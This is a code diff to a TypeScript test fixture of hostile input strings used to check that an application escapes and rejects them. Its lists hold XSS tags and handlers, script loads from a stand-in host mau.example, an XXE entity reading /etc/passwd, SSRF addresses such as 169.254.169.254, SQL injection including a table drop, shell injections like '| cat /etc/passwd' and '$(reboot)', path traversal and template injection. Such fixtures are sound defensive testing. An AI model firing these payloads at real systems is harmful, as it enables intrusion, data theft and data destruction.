@@ -1,53 +1,60 @@
-import { lined, listed } from './listed'
+import { splitLines, splitWords } from './listed'
 
 /** What every injected script calls; nobody must ever hear it. */
 const ALARM = 'naughtyAlarm'
 
-const call = `${ALARM}()`
+const alarmCall = `${ALARM}()`
 const tags = ['img src=x', 'svg', 'video src=x', 'details open', 'input autofocus', 'x-naughty tabindex=1']
 const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle']
-const closers = listed(`</title> </script> </style> </textarea> </noscript> </template> --> ]]> "/> '>`)
-const quotes = listed(`" ' \` "' \\" “ &quot; &#39;`)
+const closers = splitWords(`</title> </script> </style> </textarea> </noscript> </template> --> ]]> "/> '>`)
+const quotes = splitWords(`" ' \` "' \\" “ &quot; &#39;`)
 const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\x01javascript:', 'data:text/html,', 'vbscript:']
-const inside = listed('127.0.0.1 0x7f.1 2130706433 017700000001 [::1] [::ffff:127.0.0.1] localhost 169.254.169.254')
+const internalHosts = splitWords(
+  '127.0.0.1 0x7f.1 2130706433 017700000001 [::1] [::ffff:127.0.0.1] localhost 169.254.169.254',
+)
 
 /** Texts that mean something to another program. */
-export const meant = {
-  'tags with handlers': tags.flatMap(tag => handlers.map(handler => `<${tag} ${handler}=${call}>`)),
-  tags: lined(`
-    <script>${call}</script>
-    <scr<script>ipt>${call}</scr</script>ipt>
+export const injections = {
+  'tags with handlers': tags.flatMap(tag => handlers.map(handler => `<${tag} ${handler}=${alarmCall}>`)),
+  tags: splitLines(`
+    <script>${alarmCall}</script>
+    <scr<script>ipt>${alarmCall}</scr</script>ipt>
     <SCRIPT SRC=//mau.example></SCRIPT>
-    <iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;">
-    <math><a xlink:href=javascript:${call}>x
-    <svg><animate onbegin=${call} attributeName=x>
+    <iframe srcdoc="&lt;script&gt;parent.${alarmCall}&lt;/script&gt;">
+    <math><a xlink:href=javascript:${alarmCall}>x
+    <svg><animate onbegin=${alarmCall} attributeName=x>
     <style>@import '//mau.example'</style>
     <base href=//mau.example/>
     <meta http-equiv=refresh content="0;url=//mau.example">
     <form action=//mau.example><button>Entrar</button>
-    <template shadowrootmode=open><script>${call}</script></template>
-    <object data="data:text/html,<script>${call}</script>">
-    <!--><script>${call}</script>-->
+    <template shadowrootmode=open><script>${alarmCall}</script></template>
+    <object data="data:text/html,<script>${alarmCall}</script>">
+    <!--><script>${alarmCall}</script>-->
     <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
   `),
   'pieces of tags': [
     '<b\0>',
     '<\u200bscript>',
-    ...listed('< > </ <> <b </b & &lt; &#60; &#x3c; &nbsp; &#0; &#xD800; &amp;lt; ＜b＞'),
+    ...splitWords('< > </ <> <b </b & &lt; &#60; &#x3c; &nbsp; &#0; &#xD800; &amp;lt; ＜b＞'),
   ],
-  'ends of what is around': closers.map(closer => `${closer}<script>${call}</script>`),
-  'ends of an attribute': quotes.map(quote => `${quote} onmouseover=${call} x=${quote}`),
-  scripts: [`'-${call}-'`, `";${call}//`, `\`\${${call}}\``, ...listed('\\ \\n \\u003cb // /* */ { } ( ) ; $& $1 $$')],
+  'ends of what is around': closers.map(closer => `${closer}<script>${alarmCall}</script>`),
+  'ends of an attribute': quotes.map(quote => `${quote} onmouseover=${alarmCall} x=${quote}`),
+  scripts: [
+    `'-${alarmCall}-'`,
+    `";${alarmCall}//`,
+    `\`\${${alarmCall}}\``,
+    ...splitWords('\\ \\n \\u003cb // /* */ { } ( ) ; $& $1 $$'),
+  ],
   'dangerous addresses': [
-    ...schemes.map(scheme => scheme + call),
-    ...inside.map(host => `https://${host}/`),
+    ...schemes.map(scheme => scheme + alarmCall),
+    ...internalHosts.map(host => `https://${host}/`),
     ...[
       'https://ex ample.org',
       'https://exa\u200bmple.org',
       'https://mau.example/\r\nX: y',
       '/uploads/notices/a.jpg\n',
     ],
-    ...listed(`
+    ...splitWords(`
       //mau.example /\\mau.example /%09/mau.example https:mau.example https:///mau.example http://mau.example https://xn--
       https://youtube.com@mau.example https://ana:senha@mau.example https://mau.example:99999 https:// https://.. about:blank
       https://münchen.example/ä?ö#ü file:///etc/passwd gopher://127.0.0.1:25/_MAIL https://a.example/?${'a=b&'.repeat(600)}
@@ -55,7 +62,7 @@ export const meant = {
       /uploads/notices/${'a'.repeat(5000)}.jpg
     `),
   ],
-  'orders to a database': lined(`
+  'orders to a database': splitLines(`
     ' or '1'='1
     '; drop table profiles; --
     1; select pg_sleep(9)
@@ -74,21 +81,21 @@ export const meant = {
   `),
   'shells and files': [
     ...['; ls', '| cat /etc/passwd', '&& id', '/etc/passwd\0.jpg'],
-    ...listed(
+    ...splitWords(
       '$(reboot) `reboot` ../../../../etc/passwd ..\\..\\win.ini C:\\con\\con CON NUL .. ~root .env %2e%2e%2f -rf --help',
     ),
   ],
   'templates and formats': [
     ...['<%= 7*7 %>', '{% x %}', '=cmd|" /C calc"!A0', '\t=1'],
-    ...listed(
+    ...splitWords(
       `{{7*7}} \${7*7} #{7*7} {{constructor.constructor("x")()}} %s%s%s%n %1$s %% {0} {name} =1+1 +SUM(1) @SUM(1) \${jndi:x}`,
     ),
   ],
-  'words of programs': listed(`
+  'words of programs': splitWords(`
     __proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then toJSON length undefined null true false
     NaN Infinity this $ACTION_ID_x $F1 $K1 $undefined $@0 $-0 $n1
   `),
-  'pieces of data': listed(`
+  'pieces of data': splitWords(`
     {"a":1} {"__proto__":{"isAdmin":true}} [1, "" '' {"a":"\\ud800"} a,b;c "a","b" a=b&c=d a[]=1 <x/> !!js/function
   `),
   letters: [
